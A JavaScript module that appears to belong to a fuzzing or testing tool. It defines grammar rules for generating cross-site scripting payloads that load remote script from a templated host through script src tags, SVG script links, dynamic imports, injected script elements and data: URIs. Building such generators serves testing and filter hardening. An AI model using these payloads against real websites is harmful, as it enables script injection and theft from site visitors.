import { xssGenerator } from '../xss-generator.js';

/** The script lies elsewhere. */
export const scriptSource = xssGenerator({
  name: 'script-source',
  rules: {
    start: [
      '{open}<script{gap}src={source}></script>',
      '{open}<script src={source} {extra}></script>',
      '{open}<svg><script href={source}></script></svg>',
      '{open}<svg><script xlink:href={source} /></svg>',
      '{open}<script type=module>import {module}</script>',
      "{open}<script>import('{url}')</script>",
      '{open}<script>document.head.appendChild(document.createElement(/script/.source)).src={quoted-url}</script>',
    ],
    gap: [' ', '/', '\n', '\t', ' x '],
    extra: ['defer', 'async', 'type=text/javascript', 'crossorigin', 'id=x', 'integrity'],
    url: [
      '//{host}/{letters}.js',
      'https://{host}/{letters}.js',
      'http://{host}/',
      '//{host}',
      'https:{host}/x.js',
      '\\\\{host}/x.js',
    ],
    'quoted-url': ["'https://{host}/x.js'", '"//{host}/x.js"'],
    module: ["'https://{host}/x.js'", '"https://{host}/x.mjs"'],
    source: [
      '"{url}"',
      "'{url}'",
      'https://{host}/{letters}.js',
      '//{host}/{letters}.js',
      'data:text/javascript,{dialog}({digit})',
      'data:,{dialog}(1)',
      'data:;base64,YWxlcnQoMSk=',
    ],
  },
});
